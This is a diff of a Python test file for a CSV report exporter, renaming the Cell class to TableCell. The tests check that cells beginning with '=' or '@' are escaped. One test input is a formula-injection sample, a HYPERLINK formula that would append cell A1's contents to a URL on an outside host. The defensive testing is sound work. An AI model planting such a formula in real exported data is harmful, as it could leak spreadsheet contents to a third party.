@@ -10,7 +10,7 @@ import pytest
 from rlrat.reports.cells import guarded, unguarded
 from rlrat.reports.importing import import_runs, write_table
 from rlrat.reports.read import read_runs
-from rlrat.reports.tables import Cell, Table
+from rlrat.reports.tables import Table, TableCell
 from tests.reports.run_folders import write_run
 
 FORMULA = '=HYPERLINK("http://a.org?"&A1)'
@@ -32,7 +32,7 @@ def test_numbers_and_names_stay_as_they_are(value):
 
 
 def test_tables_have_no_formulas():
-    table = Table("Title", ("task", FORMULA), ((Cell("@a"), Cell("-5.0", -5.0, details={"=sd": -0.5})),))
+    table = Table("Title", ("task", FORMULA), ((TableCell("@a"), TableCell("-5.0", -5.0, details={"=sd": -0.5})),))
     assert list(csv.reader(io.StringIO(table.csv()))) == [
         ["task", f"'{FORMULA}", f"{FORMULA} =sd".replace("=", "'=", 1)],
         ["'@a", "-5.0", "-0.5"],
